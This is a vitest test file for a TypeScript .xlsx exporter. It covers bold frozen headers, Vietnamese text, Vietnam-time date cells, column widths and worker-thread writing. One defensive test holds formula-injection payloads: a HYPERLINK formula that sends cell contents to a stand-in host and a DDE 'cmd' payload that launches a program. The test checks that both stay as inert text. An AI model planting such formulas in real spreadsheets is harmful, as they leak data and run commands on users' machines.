/**
 * The .xlsx staff open in Excel, read back from the zip (test/support/xlsx.ts): a bold frozen
 * header, numbers as number cells, instants as day-first dates on Vietnam's clock, Vietnamese
 * text unchanged, text that looks like a formula kept as text, fitted column widths.
 */
import { describe, expect, it } from 'vitest';
import { MAX_WIDTH, MIN_WIDTH, THREAD_ROWS, toXlsx, type XlsxSheet } from '../../src/text/xlsx.js';
import { readXlsx, serialToWallClock } from '../support/xlsx.js';

describe('toXlsx', () => {
  it('writes a header row, number cells and Vietnamese text as they are', async () => {
    const name = 'Nguyễn Thị Thuỷ Tiên (Hội LHPN xã Phố Hiến) – “đạt giải”';
    const x = readXlsx(await toXlsx({ name: 'Kết quả', rows: [['Hạng', 'Họ và tên', 'Điểm'], [1, name, 36.7], [2, 'Đỗ Đức Được', 0]] }));
    expect(x.sheetName).toBe('Kết quả');
    expect(x.rows).toEqual([
      ['Hạng', 'Họ và tên', 'Điểm'],
      [1, name, 36.7],
      [2, 'Đỗ Đức Được', 0],
    ]);
    // The text comes back byte for byte (NFC as written), the header is bold and stays in view.
    expect(x.cells.get('B2')!.value).toBe(name.normalize('NFC'));
    for (const ref of ['A1', 'B1', 'C1']) expect(x.cells.get(ref)).toMatchObject({ type: 's', bold: true });
    expect(x.cells.get('B2')!.bold).toBe(false);
    expect(x.frozenAt).toBe('A2');
    // Numbers are number cells (no `t`, or `t="n"`), not text that looks like a number.
    for (const ref of ['A2', 'C2', 'A3', 'C3']) expect(x.cells.get(ref)!.type).toBe('n');
    expect(x.cells.get('C2')!.value).toBe(36.7);
    expect(x.cells.get('B3')!.type).toBe('s');
  });

  it('never writes a formula: text typed as one stays text, also once the cell is edited', async () => {
    const typed = ['=HYPERLINK("http://x.example/?"&A1,"Nhận thưởng")', '+84912345678', '-2+3', '@SUM(A1:A2)', '\t=1+1', "=cmd|' /C calc'!A0"];
    const x = readXlsx(await toXlsx({ name: 'S', rows: [['Tên'], ...typed.map((t) => [t]), [-3], ['-'], ['Bình thường']] }));
    typed.forEach((t, i) => {
      const cell = x.cells.get(`A${i + 2}`)!;
      expect(cell.formula).toBeUndefined();
      expect(cell.type).toBe('s');
      expect(cell.value).toBe(t);
      // Excel's Text format: opening the cell and pressing Enter keeps it text.
      expect(cell.format).toBe('@');
    });
    expect(x.files.get('xl/worksheets/sheet1.xml')!.toString()).not.toContain('<f>');
    // A negative number is a number, not text defused.
    expect(x.cells.get(`A${typed.length + 2}`)).toMatchObject({ type: 'n', value: -3, format: 'General' });
    expect(x.cells.get(`A${typed.length + 3}`)).toMatchObject({ type: 's', value: '-', format: '@' });
    expect(x.cells.get(`A${typed.length + 4}`)).toMatchObject({ type: 's', format: 'General' });
  });

  it('writes an instant as a date cell showing Vietnam’s clock, day first', async () => {
    // 03:30 UTC on 25/11/2026 is 10:30 in Hà Nội; 17:00 UTC on 31/12 is already 1/1 there.
    const x = readXlsx(
      await toXlsx({
        name: 'Ngày',
        rows: [['Lúc', 'Ngày'], [new Date('2026-11-25T03:30:00Z'), new Date('2026-12-31T17:00:00Z')]],
        columns: [undefined, { dateFormat: 'dd/mm/yyyy' }],
      }),
    );
    const at = x.cells.get('A2')!;
    expect(at.type).toBe('n');
    expect(at.format).toBe('dd/mm/yyyy hh:mm');
    expect(serialToWallClock(at.value as number)).toBe('25/11/2026 10:30');
    expect(x.cells.get('B2')!.format).toBe('dd/mm/yyyy');
    expect(serialToWallClock(x.cells.get('B2')!.value as number)).toBe('01/01/2027 00:00');
  });

  it('leaves a cell empty for null and for a number that is not finite (Excel would call the file damaged)', async () => {
    const x = readXlsx(await toXlsx({ name: 'S', rows: [['a', 'b', 'c', 'd'], [null, Number.NaN, Number.POSITIVE_INFINITY, 1]] }));
    expect(x.rows[1]).toEqual([null, null, null, 1]);
    expect(x.files.get('xl/worksheets/sheet1.xml')!.toString()).not.toMatch(/NaN|Infinity/);
  });

  it('fits each column to its longest value, within bounds, and wraps longer text', async () => {
    const long = 'Cán bộ làm công tác quyền con người, cán bộ chủ chốt của các tổ chức chính trị - xã hội, nhân sự tham gia công tác thông tin đối ngoại';
    const x = readXlsx(
      await toXlsx({
        name: 'S',
        rows: [['Mục', 'Giá trị', 'Số', 'Cố định'], ['Người đăng ký mới', long, 7, 'x'], ['ab', 'c', 123456, 'y']],
        columns: [undefined, undefined, undefined, { width: 30 }],
      }),
    );
    expect(x.widths[0]).toBe('Người đăng ký mới'.length + 2);
    expect(x.widths[1]).toBe(MAX_WIDTH);
    expect(x.widths[2]).toBeGreaterThanOrEqual(MIN_WIDTH);
    expect(x.widths[2]).toBeLessThan(12);
    expect(x.widths[3]).toBe(30);
    expect(x.cells.get('B2')!.wrap).toBe(true);
    expect(x.cells.get('A2')!.wrap).toBe(false);
  });

  it('writes a well-formed package: content types, workbook, styles with a named font', async () => {
    const x = readXlsx(await toXlsx({ name: 'Báo cáo 2026', rows: [['a'], ['b & <c> "d"']] }));
    for (const part of ['[Content_Types].xml', '_rels/.rels', 'xl/workbook.xml', 'xl/_rels/workbook.xml.rels', 'xl/styles.xml', 'xl/sharedStrings.xml', 'xl/worksheets/sheet1.xml'])
      expect(x.files.has(part), part).toBe(true);
    expect(x.rows[1]).toEqual(['b & <c> "d"']);
    expect(x.files.get('xl/styles.xml')!.toString()).toContain('<name val="Calibri"/>');
  });

  it('writes a large sheet on a worker thread: the same cells, and the event loop keeps turning meanwhile', async () => {
    const rows = 8000;
    const sheet: XlsxSheet = {
      name: 'Kết quả',
      rows: [
        ['Hạng', 'Họ và tên', 'Điểm', 'Lúc'],
        ...Array.from({ length: rows }, (_, i) => [i + 1, i % 97 === 0 ? `=HYPERLINK("x",${i})` : `Nguyễn Thị Thuỷ ${i}`, (i % 50) + 0.5, new Date(Date.UTC(2026, 10, 20, 1, i % 60))]),
      ],
      columns: [undefined, undefined, { numberFormat: '0.0' }],
    };
    expect(sheet.rows.length).toBeGreaterThan(THREAD_ROWS); // the default for this size
    // The longest stretch the event loop did not turn, against the whole write.
    const watch = async (write: () => Promise<Buffer>): Promise<{ buf: Buffer; longestGap: number; total: number }> => {
      let last = performance.now();
      let longestGap = 0;
      const tick = setInterval(() => {
        const now = performance.now();
        longestGap = Math.max(longestGap, now - last);
        last = now;
      }, 5);
      const start = performance.now();
      const buf = await write();
      const total = performance.now() - start;
      longestGap = Math.max(longestGap, performance.now() - last);
      clearInterval(tick);
      return { buf, longestGap, total };
    };
    const threaded = await watch(() => toXlsx(sheet, { thread: true }));
    const here = await watch(() => toXlsx(sheet, { thread: false }));
    const a = readXlsx(threaded.buf);
    const b = readXlsx(here.buf);
    expect(a.rows).toEqual(b.rows);
    expect([...a.cells.values()]).toEqual([...b.cells.values()]);
    expect(a.cells.get('B2')).toMatchObject({ type: 's', format: '@', value: '=HYPERLINK("x",0)' });
    expect(serialToWallClock(a.cells.get('D2')!.value as number)).toBe('20/11/2026 08:00');
    // On this thread the loop stands still for nearly the whole write; on the worker it does not.
    expect(threaded.longestGap).toBeLessThan(threaded.total / 2);
  }, 60_000);
});
